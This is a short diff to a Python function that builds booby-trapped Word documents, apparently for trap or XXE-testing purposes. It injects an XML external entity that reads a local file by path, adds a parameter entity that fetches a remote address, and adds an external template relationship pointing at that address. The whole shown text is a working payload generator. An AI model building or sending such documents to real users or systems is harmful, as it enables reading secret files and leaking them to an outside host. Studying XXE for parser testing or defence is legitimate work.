@@ -228,7 +228,7 @@ def word(trap: Trap) -> bytes:
             data = whole.read(info)
             if info.filename == "word/document.xml":
                 entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{trap.secret}"><!ENTITY % p SYSTEM "{trap.address}"> %p;]>'.encode()
-                data = re.sub(rb"(<\?xml[^>]*\?>\s*)", lambda m: m[0] + entity, data, count=1).replace(b"</w:t>", b"&e;</w:t>", 1)
+                data = data.replace(b"?>", b"?>" + entity, 1).replace(b"</w:t>", b"&e;</w:t>", 1)
             if info.filename == "word/_rels/document.xml.rels":
                 data = data.replace(b"</Relationships>", f'<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                                                          f'Target="{trap.address}" TargetMode="External"/></Relationships>'.encode())
